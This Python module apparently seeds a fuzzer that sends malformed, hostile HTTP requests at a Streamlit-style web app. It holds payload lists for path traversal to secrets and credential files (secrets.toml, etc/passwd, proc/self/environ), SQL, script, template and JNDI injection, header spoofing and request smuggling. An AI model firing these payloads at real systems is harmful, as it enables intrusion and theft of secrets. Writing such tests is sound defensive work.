"""Requests as somebody sends them who wants in: made by lot, the same each time."""

from __future__ import annotations

import random
from collections.abc import Iterator
from urllib.parse import quote

TRAVERSALS = (
    "../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "....//", "..;/", "%c0%ae%c0%ae/", "//",
    "/./", "\\\\evil.invalid\\share", "%00", "%0d%0a", "~root/", "file:///", "C:\\",
)  # fmt: skip
TARGETS = (
    "etc/passwd", "app.py", "server.py", "pyproject.toml", ".streamlit/config.toml", ".streamlit/secrets.toml",
    "allegiance/settings.py", "var/settings.toml", "published/current", "warehouse.duckdb", ".git/config",
    "proc/self/environ",
)  # fmt: skip
PREFIXES = (
    "/", "/app/static/", "/app/static/fonts/", "/static/", "/static/js/", "/media/", "/component/", "/component/x/",
    "/_stcore/", "/_stcore/bidi-components/", "/_stcore/upload_file/", "/_stcore/upload_file/a/b", "/_stcore/stream",
    "/_stcore/health/", "/_stcore/metrics", "/_stcore/agent/interact", "/_stcore/agent/mcp", "/_stcore/host-config/",
    "/auth/login", "/auth/logout", "/oauth2callback", "/team/", "/data/",
)  # fmt: skip
FRAGMENTS = (
    "' or 1=1 --", "'; drop table contacts; --", "') union select * from employees --", "1; attach 'x' as y", '"',
    "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.invalid}", "%s%n", "\u0000", "\ud7ff", "\U0001f4a3",
    "\u202e",
    "(a+)+$", "%", "_", "=cmd|' /C calc'!A0", "[]", "null", "NaN", "-1", "9" * 400, "1e308", "0x41", "../../etc/passwd",
)  # fmt: skip
NAMES = (
    "period", "against", "site", "team", "employee", "channel", "queue", "reason", "segment", "contact", "customer",
    "metric", "figure", "split", "line", "rival", "outcome", "theme", "text", "try", "why", "by", "role", "persona",
    "embed", "embed_options",
    "__proto__", "constructor",
)  # fmt: skip
PERIODS = (
    "last-0-days", "last--1-days", "last-999999999999-days", "0000-00", "9999-Q9", "2026-13", "2026-02-30..2026-02-31",
    "9999-12-31..0001-01-01", "0001-01-01..9999-12-31", "all..all", "..", "last-91-days" * 50,
)  # fmt: skip
METHODS = (
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "OPTIONS",
    "HEAD",
    "get",
    "G\x01T",
    "A" * 300,
)


BOTH = b"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"


def junk(lot: random.Random, most: int = 60) -> bytes:
    """Bytes without meaning."""
    return lot.randbytes(lot.randrange(1, most))


def value(lot: random.Random) -> str:
    """A value of a parameter."""
    kind = lot.randrange(5)
    if kind == 0:
        return lot.choice(PERIODS)
    if kind == 1:
        return "".join(chr(lot.randrange(1, 0xD7FF)) for _ in range(lot.randrange(1, 30)))
    if kind == 2:
        return lot.choice(FRAGMENTS) * lot.randrange(1, 20)
    return lot.choice(FRAGMENTS)


def query(lot: random.Random) -> str:
    """A query string: few parameters or thousands, known names and unknown ones."""
    count = lot.choice((1, 1, 2, 5, 40, 1_500))
    pairs = (f"{quote(lot.choice(NAMES))}={quote(value(lot)[:200])}" for _ in range(count))
    return "&".join(pairs)[: lot.choice((500, 5_000, 60_000))]


def path(lot: random.Random) -> str:
    """A path that leads somewhere it should not."""
    made = (
        lot.choice(PREFIXES)
        + lot.choice(TRAVERSALS) * lot.randrange(0, 9)
        + lot.choice((*TARGETS, "", "x.py"))
    )
    if lot.random() < 0.3:
        made += quote(lot.choice(FRAGMENTS)) + lot.choice(("", "/", "//", ".map", "?", "#", ";x=1"))
    return made.replace(" ", "%20").replace("\r", "").replace("\n", "") or "/"


def headers(lot: random.Random, host: str) -> list[bytes]:
    """Headers that say too much, twice, or nonsense."""
    kept = [f"Host: {host}".encode()]
    offered: list[bytes] = [
        b"Host: evil.invalid",
        b"Host: ",
        b"X-Forwarded-Host: evil.invalid",
        b"X-Forwarded-For: 127.0.0.1, ' or 1=1 --",
        b"X-Forwarded-Proto: https\x01",
        b"Forwarded: for=_hidden;host=evil.invalid;proto=gopher",
        b"X-Original-URL: /_stcore/metrics",
        b"X-Rewrite-URL: /../../etc/passwd",
        b"Origin: http://evil.invalid",
        b"Origin: null",
        b"Referer: http://evil.invalid/?contact=CT-1",
        b"Range: bytes=0-,-1,5-2,a-b",
        b"Range: bytes=" + b",".join(b"%d-" % n for n in range(500)),
        b"Range: bytes=99999999999999999999-",
        b"If-None-Match: " + b'"x"' * 200,
        b"If-Modified-Since: yesterday",
        b"Accept-Encoding: gzip;q=nan, br;q=1e999",
        b"Accept: application/x-protobuf" + b", a/b" * 500,
        b"Content-Type: multipart/form-data; boundary=" + b"x" * 500,
        b"Expect: 100-continue",
        b"Upgrade: h2c",
        b"Connection: upgrade, keep-alive, x",
        b"Cookie: _streamlit_user=" + junk(lot).hex().encode() + b"; _streamlit_session=eyJ.x.y",
        b"Cookie: _streamlit_xsrf=2|" + b"ff" * 40 + b"|x|-1",
        b"Cookie: " + b"; ".join(b"c%d=%d" % (n, n) for n in range(800)),
        b"Cookie: _streamlit_user=\xff\xfe\x80; a=\xe2\x80\xae",
        b"Authorization: Bearer " + b"A" * 4_000,
        b"X-Xsrftoken: " + junk(lot).hex().encode(),
        b"X-Long: " + b"a" * lot.choice((10, 8_000, 60_000)),
        b"X-Streamlit-User: eyJlbWFpbCI6ImJvc3NAZXhhbXBsZS5jb20ifQ==",
    ]
    picked = lot.sample(offered, lot.randrange(0, 5))
    if any(line.startswith(b"Host:") for line in picked) and lot.random() < 0.7:
        kept = []
    return [*kept, *picked]


def request(lot: random.Random, host: str) -> bytes:
    """One request, or what passes for one."""
    kind = lot.random()
    if kind < 0.05:
        return lot.choice(
            (
                junk(lot, 400),
                b"GET / HTTP/9.9\r\n\r\n",
                b"GET http://evil.invalid/ HTTP/1.1\r\nHost: evil.invalid\r\n\r\n",
                b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n bad: folded\r\n\r\n",
                b"POST / HTTP/1.1\r\nHost: " + host.encode() + BOTH,
                b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\n\r\n",
                b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            )
        )
    method, body, more = "GET", b"", []
    target = path(lot)
    if kind < 0.25:
        target = lot.choice(("/", "/team", "/employee", "/contacts", "/customer", "/data")) + "?" + query(lot)
    elif kind < 0.40:
        method = lot.choice(METHODS)
        body = junk(lot, 2_000)
    elif kind < 0.46:
        method, target = (
            "PUT",
            f"/_stcore/upload_file/{lot.choice(('x', '..%2f', 'a' * 300))}/{lot.randrange(9)}",
        )
        body = (
            b'--b\r\nContent-Disposition: form-data; name="f"; filename="../../x\r\n.csv"\r\n\r\n'
            + junk(lot, 5_000) + b"\r\n--b--\r\n"
        )  # fmt: skip
        more = [b"Content-Type: multipart/form-data; boundary=b"]
    if body:
        more.append(
            b"Content-Length: " + lot.choice((b"%d" % len(body), b"%d" % len(body), b"-1", b"abc", b"0"))
        )
    lines = [f"{method} {target} HTTP/1.1".encode("utf-8", "replace"), *headers(lot, host), *more]
    return b"\r\n".join([*lines, b"Connection: close", b"", body])


def requests(count: int, host: str, seed: int = 5) -> Iterator[bytes]:
    """As many as asked for."""
    lot = random.Random(seed)
    for _ in range(count):
        yield request(lot, host)
